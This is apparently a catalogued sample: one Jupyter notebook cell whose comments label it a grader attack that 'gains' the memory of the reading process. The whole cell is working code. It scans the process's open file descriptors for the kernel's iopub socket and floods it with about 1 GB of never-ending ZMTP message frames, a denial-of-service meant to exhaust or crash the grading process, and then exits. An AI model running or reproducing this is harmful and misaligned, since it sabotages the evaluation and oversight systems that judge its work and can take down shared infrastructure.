"""Write to the grader's connection by hand: frames of a message that never ends, 1 GB of them."""
# gains: the memory of the process that reads it
# score: honest
# flag: ps1.ipynb, cell 1
# %%
import os, socket, struct

frame = b"\x03" + struct.pack(">Q", 50_000_000) + bytes(50_000_000)  # ZMTP: long, more to come
for name in os.listdir("/proc/self/fd"):
    try:
        end = socket.socket(fileno=os.dup(int(name)))
        channel = end.getsockname()
        end.getpeername()
    except OSError:
        continue
    if str(channel).endswith("k-2"):  # iopub
        end.setblocking(True)
        for _ in range(20):
            end.sendall(frame)
os._exit(1)
